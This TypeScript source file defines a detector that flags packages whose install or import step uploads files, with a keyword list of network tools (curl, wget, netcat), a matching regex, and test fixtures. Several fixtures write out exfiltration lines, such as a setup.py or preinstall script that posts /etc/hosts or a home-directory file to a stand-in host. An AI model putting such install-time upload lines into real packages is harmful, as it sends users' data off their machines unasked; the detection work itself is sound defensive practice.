import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, isLate, matchInCode, sight } from "./_sight.ts";

const WORDS = [
  "files=",
  "files =",
  "curl",
  "wget",
  "invoke-restmethod",
  "invoke-webrequest",
  "uploadfile",
  "netcat",
  "nc ",
] as const;
/** A command whose arguments send a file, or what another command printed. */
const SENDS =
  /\bcurl\b[^|;\n]{0,300}?[ \t](?:-F|--form)[ =]?["']?[\w[\]-]{1,40}=["']?[@<]|\bcurl\b[^|;\n]{0,300}?[ \t](?:-T|--upload-file|--data-binary|--data|-d)[ =]?["']?@|\bwget\b[^|;\n]{0,300}?--post-file|\|[ \t]{0,4}(?:curl\b[^|;\n]{0,300}?@-|nc[ \t]{1,4}[\w.-]{4,100}[ \t]{1,4}\d)|\bnc(?:at)?[ \t]{1,4}[\w.-]{4,100}[ \t]{1,4}\d{2,5}[ \t]{0,4}<|\.uploadfile\(|-infile\b/i;
/** A request with a file in it, not one that is handed on for a caller. */
const FILES = /[\s(,]files\s{0,4}=(?!\s{0,4}(?:\w{1,20}\.)?files\b)/;
const SHELLS = new Set(["shell", "batch", "powershell"]);

export const sendsFileUnasked: Detector = {
  id: "sends-file-unasked",
  title: "Installing or importing the package sends a file",
  severity: "critical",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 5.6,
  class: "threat",
  group: "exfiltration",
  why: `At install or import a file, or what a command printed, is uploaded to a server. Installing needs to fetch at
most; what leaves the machine then is somebody's data.

Release scripts and continuous integration upload reports; they run when a maintainer starts them.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (SHELLS.has(file.kind)) {
        const match = file.phase === "install" ? matchInCode(file, SENDS) : undefined;
        if (match !== undefined) yield sight(file, match.index, `sends a file: ${match[0].slice(0, 160)}`);
        continue;
      }
      for (const deed of deedsOf(file, "upload")) {
        if (isLate(deed) || !FILES.test(deed.words)) continue;
        yield sight(file, deed.offset, `${deed.what} sends a file to ${deed.text.slice(0, 120)}`, {
          phase: deed.phase,
          share: file.phase === "call" ? 0.6 : 1,
        });
      }
      for (const deed of deedsOf(file, "start")) {
        if (isLate(deed)) continue;
        const match = SENDS.exec(deed.text.slice(0, 4_000));
        if (match !== null)
          yield sight(file, deed.offset, `sends a file: ${deed.text.slice(0, 160)}`, { phase: deed.phase });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import os\nos.system('curl -F a=@/etc/hosts http://example.invalid')\n" },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"preinstall": "sh a.sh"}}',
          "a.sh": "#!/bin/sh\ncurl -s --data-binary @$HOME/x http://example.invalid\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import os\nos.system('curl -o a.tgz http://example.invalid/a.tgz')\n" },
      },
      { ecosystem: "npm", files: { "ci.sh": "#!/bin/sh\ncurl --data-binary @coverage.txt http://example.invalid\n" } },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py": "import requests\nrequests.post('http://example.invalid', files={'f': open('a', 'rb')})\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "setup.py": "import subprocess as s\ns.call(['curl', '-T', '@/etc/hosts', 'http://example.invalid'])\n",
        },
      },
    ],
  },
};
